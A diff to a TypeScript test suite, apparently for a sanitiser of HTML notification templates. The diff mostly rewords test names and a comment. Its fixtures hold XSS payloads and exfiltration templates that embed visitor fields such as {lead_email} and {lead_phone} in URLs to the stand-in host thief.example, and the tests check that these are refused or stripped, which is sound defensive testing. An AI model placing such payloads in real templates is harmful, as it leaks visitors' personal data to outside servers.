@@ -9,7 +9,7 @@ t.test('the HTML of notifications', async t => {
   const admin = await anAdmin(api.database);
   const save = (body: object) => api.call('PUT /content', { as: admin, body });
 
-  t.test('the HTML of notifications keeps the supported tags alone', async t => {
+  t.test('the HTML of notifications keeps only the supported tags', async t => {
     const { body } = await save({
       leadNotificationHtml:
         '<h2 onclick="x()">New {lead_name}</h2><script>alert(1)</script><p style="position:fixed">Hi <b>you</b><iframe src="https://x.com"></iframe></p><a href="javascript:alert(1)">a</a><a href="mailto:{lead_email}" target="_blank" rel="opener">b</a><svg onload="x()"></svg>',
@@ -20,7 +20,7 @@ t.test('the HTML of notifications', async t => {
     );
   });
 
-  t.test('what is stored of the notification can be sent back: its length is that of the sanitised HTML', async t => {
+  t.test('the stored HTML of a notification can be saved again: its length is measured after sanitising', async t => {
     const html = (length: number) => `<p>&amp;${'x'.repeat(length - 12)}</p>`;
     const { status, body } = await save({ leadNotificationHtml: html(50_000) });
     t.same([status, body.leadNotificationHtml.length], [200, 50_000]);
@@ -30,13 +30,13 @@ t.test('the HTML of notifications', async t => {
   });
 });
 
-t.test('templates of notifications send nothing of a visitor to another server', async t => {
+t.test("notification templates cannot send visitors' data to other servers", async t => {
   const api = await testApi(t);
   const admin = await anAdmin(api.database);
   const save = (body: object) => api.call('PUT /content', { as: admin, body });
   const site = api.config.publicUrl;
 
-  t.test('a variable in a tag is refused, and nothing is stored', async t => {
+  t.test('refuses a variable inside a tag, and stores nothing', async t => {
     const refused = [
       '<p>New <img src="https://thief.example/p?e={lead_email}&p={lead_phone}"></p>',
       '<a href="https://thief.example/?{lead_email}">Open</a>',
@@ -61,7 +61,7 @@ t.test('templates of notifications send nothing of a visitor to another server',
     t.equal((await save({})).body.leadNotificationHtml.includes('thief'), false);
   });
 
-  t.test('tags, attributes and styles that are not kept do not matter', async t => {
+  t.test('ignores variables in tags, attributes and styles that are removed anyway', async t => {
     const dropped = [
       '<p style="background:url(https://thief.example/{lead_email})">x</p>',
       '<style>p{background:url(https://thief.example/{lead_email})}</style><p>x</p>',
@@ -76,7 +76,7 @@ t.test('templates of notifications send nothing of a visitor to another server',
     }
   });
 
-  t.test('a picture is one of the site', async t => {
+  t.test('accepts only pictures of this site', async t => {
     for (const src of [
       'https://thief.example/p.png',
       'http://thief.example/uploads/abc.png',
@@ -96,7 +96,7 @@ t.test('templates of notifications send nothing of a visitor to another server',
     }
   });
 
-  t.test('a web address in a text holds no variable: programs open it to show a preview', async t => {
+  t.test('refuses a variable in a web address in a text, because programs open addresses to show previews', async t => {
     const texts = [
       'https://thief.example/?e={lead_email}',
       'See (HTTPS://thief.example/{lead_phone}).',
@@ -107,7 +107,7 @@ t.test('templates of notifications send nothing of a visitor to another server',
       '203.0.113.7/{lead_phone}',
       '{lead_phone}.thief.example',
       'x-{investment_budget}.thief.example',
-      // Some programs end a link at these signs, others go on to the next space.
+      // Some programs end a link at these characters, others at the next space.
       ...[...'，。；、！（）：？'].map(sign => `https://thief.example/${sign}{lead_email}`),
       '请看 https://example.com/admin，电话{lead_phone}。',
       'www.thief.example，客户：（{lead_name}）',
@@ -126,11 +126,7 @@ t.test('templates of notifications send nothing of a visitor to another server',
       '<p>thief.<em>example/</em>{lead_email}</p>',
     ])
       t.same(placesOf(await save({ leadNotificationHtml: html })), ['leadNotificationHtml'], html);
-    t.same(
-      placesOf(await save(Object.fromEntries(fields.map(field => [field, texts[0]])))),
-      fields,
-      'all of them at once',
-    );
+    t.same(placesOf(await save(Object.fromEntries(fields.map(field => [field, texts[0]])))), fields, 'all at once');
     const kept = [
       'Name:{lead_name}, {lead_email}|{lead_phone}.Regards',
       'Mr.{lead_name} of {franchise_name}: https://example.com/admin?a=1 ({timeline})',
